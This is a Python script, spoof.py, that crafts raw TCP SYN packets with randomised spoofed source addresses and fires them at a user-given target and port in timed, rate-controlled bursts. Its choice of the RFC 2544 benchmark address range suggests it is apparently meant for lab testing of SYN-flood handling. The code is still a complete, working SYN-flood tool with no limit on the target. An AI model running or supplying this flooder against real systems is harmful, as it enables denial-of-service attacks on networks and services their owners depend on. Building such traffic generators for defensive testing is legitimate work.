#!/usr/bin/python3
"""spoof.py TARGET PORT SECONDS EVERY_S COUNT RATE: sends SYNs with random, spoofed source addresses.

Every EVERY_S seconds, sends COUNT SYNs at RATE per second. Needs root.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
  total = sum(struct.unpack(f"!{len(data) // 2}H", data))
  while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
  return ~total & 0xFFFF


def syn(target, port, number):
  """Returns an IPv4 packet from a random address in 198.18.0.0/15, which is reserved for benchmarks (RFC 2544)."""
  source = struct.pack("!I", 0xC6120000 | random.getrandbits(17))
  tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
  tcp = tcp[:16] + struct.pack("!H", checksum(source + target + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
  return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number & 0xFFFF, 0, 64, 6, 0, source, target) + tcp


def main():
  target, port, seconds, every_s, count, rate = sys.argv[1], *map(float, sys.argv[2:])
  raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
  begin_s = time.monotonic() + every_s / 2
  number = 0
  for flood in range(int((seconds - every_s / 2) / every_s) + 1):
    for i in range(int(count)):
      time.sleep(max(0, begin_s + flood * every_s + i / rate - time.monotonic()))
      raw.sendto(syn(socket.inet_aton(target), int(port), number), (target, 0))
      number += 1


if __name__ == "__main__":
  main()
